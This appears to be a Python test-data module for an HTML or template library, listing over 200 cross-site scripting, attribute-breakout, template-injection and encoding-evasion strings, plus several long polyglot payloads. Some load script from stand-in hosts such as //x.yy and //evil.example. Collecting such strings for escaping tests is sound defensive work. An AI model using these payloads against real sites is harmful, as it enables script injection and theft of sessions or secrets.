"""Over 200 well-known ways to have a page run what somebody typed (docs/promises.md, S4).

At most 30 characters each, so that each is a name that the book takes; `LONG` fit only into notes.
"""

SCRIPTS = """
<script>alert(1)</script>
<SCRIPT>alert(5)</SCRIPT>
<ScRiPt>alert(2)</sCrIpT>
<script >alert(3)</script >
<script/x>alert(1)</script>
<script/>alert(4)</script>
<script src=//x.yy></script>
<script src=/x></script>
<script src=data:,alert(1)>
<script>alert`1`</script>
<script>alert(1)//
<script>alert(1)<!--
</script><script>alert(1)
</title><script>alert(1)//
</style><script>alert(1)//
</textarea><script>alert(1)
</option><script>alert(1)//
</select><script>alert(1)//
</noscript><script>alert(1)
--><script>alert(1)</script>
--!><script>alert(1)//
]]><script>alert(1)</script>
<<script>alert(1)//<</script>
<scr<script>ipt>alert(1)//
<scr\\0ipt>alert(1)</script>
<script>-alert(1)</script x
<script>throw alert(1)</script
<script defer>alert(1)//
<script async src=//x.yy>
<script type=module>alert(1)//
<script>import('//x.yy')//
<x:script>alert(1)</x:script>
<script nonce=x>alert(1)//
<script>eval(name)</script>
<script>top.alert(1)//
""".strip().splitlines()

EVENTS = """
<img src=x onerror=alert(1)>
<img src onerror=alert(1)>
<img/src/onerror=alert(1)>
<IMG SRC=x ONERROR=alert(2)>
<img src=x onerror="alert(1)">
<img src=x onerror='alert(1)'>
<img src=x onerror=alert`1`>
<img src=x onerror=alert(1)//
<image src=x onerror=alert(1)>
<img src=/icon onload=alert(1)
<img srcset=x onerror=alert(1)
<img src=x:x onerror=alert(3)>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<body onfocus=alert(1)>
<body onhashchange=alert(1)>
<body onresize=alert(1)>
<input onfocus=alert(1)
<input autofocus onfocus=a()>
<select autofocus onfocus=a()>
<textarea onfocus=alert(1)>
<keygen autofocus onfocus=a()>
<button onclick=alert(1)>x
<a onclick=alert(1)>x</a>
<a onmouseover=alert(1)>x
<b onpointerenter=alert(1)>x
<p ontouchstart=alert(1)>x
<p onanimationend=alert(1)>
<details open ontoggle=a()>
<details ontoggle=alert(1)>
<video src=x onerror=alert(1)>
<video><source onerror=a()>
<audio src=x onerror=alert(1)>
<audio oncanplay=alert(1)>
<marquee onstart=alert(1)>
<marquee loop=1 onfinish=a()>
<object data=x onerror=a()>
<embed src=x onload=alert(1)>
<iframe onload=alert(1)>
<frameset onload=alert(1)>
<link rel=x onerror=alert(1)>
<style onload=alert(1)>
<style onload=alert(1)></style
<meter onmouseover=alert(1)>0
<form oninput=alert(1)><input>
<form onsubmit=alert(1)>
<dialog open onclose=alert(1)>
<track onerror=alert(1)>
<x contenteditable onblur=a()>
<x onclick=alert(1)>y</x>
<div onbeforeprint=alert(1)>
<p/onwheel=alert(1)>x
<p onscrollend=alert(1)>
<a id=x tabindex=1 onfocus=a()
""".strip().splitlines()

DRAWINGS = """
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg/x=y onload=alert(2)>
<SVG ONLOAD=alert(3)>
<svg><script>alert(1)</script>
<svg><script>alert&#40;1)//
<svg><script/href=//x.yy />
<svg><a xlink:href=//x.yy>x
<svg><animate onbegin=a()>
<svg><set onbegin=alert(1)>
<svg><use href=//x.yy#x />
<svg><image onerror=alert(1)>
<svg><style><img/onerror=a()>
<svg><title><img onerror=a()>
<svg><desc><svg/onload=a()>
<svg><foreignObject><script>
</svg><svg onload=alert(1)>
<math href=javascript:a()>x
<math><mtext><script>alert(1)
<math><mi xlink:href=//x.yy>x
""".strip().splitlines()

ADDRESSES = """
javascript:alert(1)
JaVaScRiPt:alert(2)
javascript://%0aalert(1)
javascript:/*--></a>*/alert(1)
javascript&colon;alert(1)
javascript&#58;alert(1)
&#106;avascript:alert(1)
java&Tab;script:alert(1)
java&NewLine;script:alert(1)
vbscript:msgbox(1)
data:text/html,<script>a()
data:text/html;base64,PHN2Zz4=
data:image/svg+xml,<svg/>
blob:null/alert(1)
view-source:javascript:a()
//evil.example/x
/\\evil.example
https:evil.example
<a href=javascript:alert(1)>x
<a href="javascript:a()">x</a>
<a href=//x.yy>x</a>
<iframe src=javascript:a()>
<iframe srcdoc=&lt;svg/onload>
<form action=javascript:a()>
<button formaction=//x.yy>x
<base href=//x.yy>
<base href=javascript:/a/>
<link rel=stylesheet href=//x>
<link rel=import href=//x.yy>
<link rel=prefetch href=//x>
<meta http-equiv=refresh>
<object data=javascript:a()>
<embed src=javascript:a()>
<area href=javascript:a()>x
<style>@import'//x.yy';
""".strip().splitlines()

BREAKOUTS = """
"><script>alert(1)</script>
'><script>alert(1)</script>
><script>alert(1)</script>
"><svg onload=alert(1)>
'><svg onload=alert(1)>
"><img src=x onerror=alert(1)>
" onfocus=alert(1) autofocus="
' onfocus=alert(1) autofocus='
" onmouseover="alert(1)
' onmouseover='alert(1)
" onclick=alert(1) x="
"onerror=alert(1)//
` onerror=alert(1) x=`
" style="x:expression(a())
" style=position:fixed;inset:0
" accesskey=x onclick=a() "
" hx-get="//x.yy" x="
" hx-on:click="alert(1)
" hx-trigger=load hx-get="/
' hx-vals='js:alert(1)
" data-hx-on:load="alert(1)
"]};alert(1);//
";alert(1);//
';alert(1);//
\\";alert(1);//
\\';alert(1);//
'-alert(1)-'
"-alert(1)-"
`-alert(1)-`
"/></a><svg/onload=a()>
"></bdi><svg/onload=alert(1)>
</bdi></b><svg/onload=a()>
" srcdoc="<svg onload=a()>
""".strip().splitlines()

TEMPLATES = """
{{ 7 * 7 }}
{{constructor.constructor()}}
{{ settings.SECRET_KEY }}
{% debug %}
{% load static %}{% csrf_token
{% include "base.html" %}
{# comment #}
{{ request.session }}
${alert(1)}
${{7*7}}
#{7*7}
<%= 7*7 %>
{{=alert(1)}}
[[alert(1)]]
*{7*7}
%(name)s %s %d
{name} {0} {number}
$& $1 $` $'
""".strip().splitlines()

LETTERS = """
＜script＞alert(6)＜/script＞
‹img src=x onerror=alert(1)›
&lt;script&gt;alert(1)//
&#60;script&#62;alert(1)
&amp;lt;svg onload=alert(1)
\\u003cscript\\u003ealert(1)
\\x3cscript\\x3ealert(1)
%3Cscript%3Ealert(1)
%253Cscript%253E
+ADw-script+AD4-alert(1)
¼script¾alert(1)¼/script¾
<ſcript>alert(7)</ſcript>
<ıframe src=x>
<scrİpt>alert(1)
<img src=x onerror＝alert(9)>
ʺ onfocus=alert(1)
＂ onfocus=alert(1) ＂
<svg﹥onload=alert(1)
""".strip().splitlines()

NAMES = (*SCRIPTS, *EVENTS, *DRAWINGS, *ADDRESSES, *BREAKOUTS, *TEMPLATES, *LETTERS)

# Of many shapes at once, against many places of a page at once.
LONG = r"""
jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */oNcliCk=alert() )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/x>
"'`><img src=x onerror=alert(1)></title></textarea></script></style></noscript><svg onload=alert(2)>
';alert(String.fromCharCode(88,83,83))//";alert(1)//--></SCRIPT>">'><SCRIPT>alert(1)</SCRIPT>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text x=2 y=2>x</text>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
{{constructor.constructor('alert(1)')()}}{% include request.GET.x %}${alert(1)}<%= alert(1) %>#{alert(1)}
<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>
<a href="java&#x0A;script&colon;alert(1)" ping=//evil.example style="position:fixed;inset:0">all of it</a>
""".strip().splitlines()
